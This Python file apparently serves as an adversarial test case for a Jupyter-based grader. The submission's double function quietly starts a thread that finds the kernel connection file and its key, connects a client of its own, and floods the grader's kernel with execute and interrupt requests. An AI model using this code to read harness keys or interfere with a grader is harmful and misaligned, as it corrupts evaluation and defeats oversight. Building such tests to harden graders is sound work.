"""Reads its kernel's key, connects a client of its own, and sends requests as the grader would."""

from attack import IMPATIENT, wrong

LIMITS = IMPATIENT
PROOF = "connected True"
CLIENT = """
import glob, os, threading, time
from jupyter_client import BlockingKernelClient
files = glob.glob(os.path.expanduser("~/.kernel.json")) + glob.glob("/**/kernel*.json", recursive=False)
print("connected", bool(files))
def bother():
    client = BlockingKernelClient(connection_file=files[0])
    client.load_connection_file()
    client.start_channels()
    for number in range(40):
        client.execute("2", user_expressions={"answer": "2"})
        client.control_channel.send(client.session.msg("interrupt_request", {}))
        time.sleep(0.005)
    client.shutdown()
def double(x):
    threading.Thread(target=bother, daemon=True).start()
    return x
"""


def submission():
    return wrong(double=CLIENT)
